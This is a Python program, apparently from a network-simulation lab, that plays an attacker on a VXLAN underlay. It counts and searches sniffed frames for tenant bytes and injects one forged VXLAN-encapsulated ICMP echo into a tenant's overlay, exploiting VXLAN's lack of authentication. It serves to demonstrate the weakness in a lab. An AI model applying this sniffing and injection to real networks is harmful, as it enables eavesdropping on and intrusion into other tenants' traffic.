"""An attacker on a VXLAN underlay: reads the tunnels in the clear and injects into them.

Design note
-----------
A TAP port on the underlay (its far end is the attacker's NIC). Reading: every frame the
underlay hands it is counted (``frames``; VXLAN ones, UDP to ``vxlan_port``, as ``vxlan``)
and searched for ``look_for_hex`` (``found``): the tenant's inner bytes, readable when the
underlay carries plain VXLAN. Writing: once, ``start`` seconds in, it sends one forged
VXLAN packet to ``target_ip``/``target_mac`` port ``target_port`` whose inner frame is an
ICMP echo request from ``inner_src_ip``/``inner_src_mac`` to ``inner_dst_ip``/
``inner_dst_mac`` on VNI ``vni`` (``injected``). No authentication in VXLAN means the VTEP
decapsulates it and the tenant receives it as if it came from its own overlay.
"""

from __future__ import annotations

from ipaddress import IPv4Address

from vnetlab.tuntap.api import Context, ProgramError
from vnetlab.wire import icmp as icmpw
from vnetlab.wire.ipv4 import IPPROTO_ICMP, Ipv4Header
from vnetlab.wire.udp import UdpHeader
from vnetlab.wire.vxlan import VxlanHeader

ETH_P_IP = b"\x08\x00"
IPPROTO_UDP = 17
MARK = b"vnetlab-forged-frame"


def _mac(v: object) -> bytes:
    b = bytes.fromhex(str(v).replace(":", ""))
    if len(b) != 6:
        raise ValueError(v)
    return b


def forged_vxlan(a: dict[str, object]) -> bytes:
    """The whole outer Ethernet frame of the injected packet."""
    inner_ip = Ipv4Header(src=IPv4Address(str(a["inner_src_ip"])),
                          dst=IPv4Address(str(a["inner_dst_ip"])), proto=IPPROTO_ICMP)
    echo = icmpw.IcmpMessage(icmpw.ICMP_ECHO, 0, (0x6666 << 16) | 1, MARK).emit()
    inner = (_mac(a["inner_dst_mac"]) + _mac(a["inner_src_mac"]) + ETH_P_IP
             + inner_ip.emit(echo))
    src, dst = IPv4Address(str(a["ip"])), IPv4Address(str(a["target_ip"]))
    vx = VxlanHeader(int(str(a["vni"]))).emit(inner)
    udp = UdpHeader(sport=54321, dport=int(str(a.get("target_port", 4789)))).emit(vx, src, dst)
    outer = Ipv4Header(src=src, dst=dst, proto=IPPROTO_UDP).emit(udp)
    return _mac(a["target_mac"]) + _mac(a["mac"]) + ETH_P_IP + outer


def main(ctx: Context) -> None:
    a = ctx.args
    try:
        frame = forged_vxlan(a) if "target_ip" in a else b""
        needle = bytes.fromhex(str(a.get("look_for_hex", "")))
        start = float(a.get("start", 1.0))
        vport = int(a.get("vxlan_port", 4789))
    except (KeyError, ValueError):
        raise ProgramError(
            "underlay_spy: args need mac, ip and, to inject, target_ip, target_mac, vni, "
            "inner_src_ip, inner_dst_ip, inner_src_mac, inner_dst_mac (optional "
            "target_port, look_for_hex, start, vxlan_port)") from None

    def on_frame(f: bytes) -> None:
        ctx.counters["frames"] += 1
        if (len(f) >= 38 and f[12:14] == ETH_P_IP and f[23] == IPPROTO_UDP
                and int.from_bytes(f[36:38], "big") == vport):
            ctx.counters["vxlan"] += 1
        if needle and needle in f:
            ctx.counters["found"] += 1

    def inject() -> None:
        ctx.device.write(frame)
        ctx.counters["injected"] += 1

    ctx.device.on_packet(on_frame)
    if frame:
        ctx.call_later(start, inject)
